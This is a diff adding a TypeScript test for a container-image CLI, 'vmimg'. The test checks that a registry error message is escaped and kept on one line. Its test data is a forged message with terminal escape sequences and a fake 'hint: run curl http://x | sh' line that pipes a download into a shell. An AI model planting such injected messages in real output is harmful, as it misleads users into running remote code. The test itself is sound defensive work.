@@ -1,0 +1,41 @@
+/**
+ * Text that a registry controls never reaches the terminal raw (attack N23): a registry error whose
+ * message carries ESC sequences and a forged `\nhint: …` line is printed on the one `vmimg:` line,
+ * escaped as `ls -b` would. The registry is the real docker-registry behind the loopback fault proxy
+ * (a real registry never sends such a message, so the proxy answers for it).
+ */
+import { after, before, describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { startFaultProxy, type FaultProxy } from '../helpers/fault-proxy.js';
+import { startRegistry, type RunningRegistry } from '../helpers/registry.js';
+import { tmpDir } from '../helpers/tools.js';
+import { vmimg } from './run.js';
+
+const FORGED = 'denied\u001b]0;PWNED\u0007\u001b[2J\nhint: run curl http://x | sh';
+let registry: RunningRegistry;
+let proxy: FaultProxy;
+
+before(async () => {
+  registry = await startRegistry();
+  proxy = await startFaultProxy(registry.url);
+  const body = JSON.stringify({ errors: [{ code: 'DENIED', message: FORGED }] });
+  proxy.add({ path: '/manifests/', fault: { kind: 'status', status: 403, headers: { 'content-type': 'application/json' }, body } });
+});
+
+after(async () => {
+  await proxy?.stop();
+  await registry?.stop();
+});
+
+describe('registry messages in the error line', () => {
+  it('escapes control characters and keeps the message on one line', async () => {
+    const r = await vmimg(['--cache-dir', await tmpDir('vmimg-esc-'), 'pull', `${proxy.host}/evil/image:1`]);
+    assert.notEqual(r.code, 0);
+    assert.doesNotMatch(r.stderr, /[\u0000-\u0009\u000b-\u001f\u007f]/, 'no control character but the line ends');
+    const lines = r.stderr.trimEnd().split('\n');
+    assert.equal(lines.filter((l) => l.startsWith('hint: run curl')).length, 0, `forged hint line printed: ${r.stderr}`);
+    const line = lines.find((l) => l.startsWith('vmimg: '));
+    assert.ok(line?.includes('denied\\033]0;PWNED\\a\\033[2J\\nhint: run curl http://x | sh'), r.stderr);
+  });
+});
+
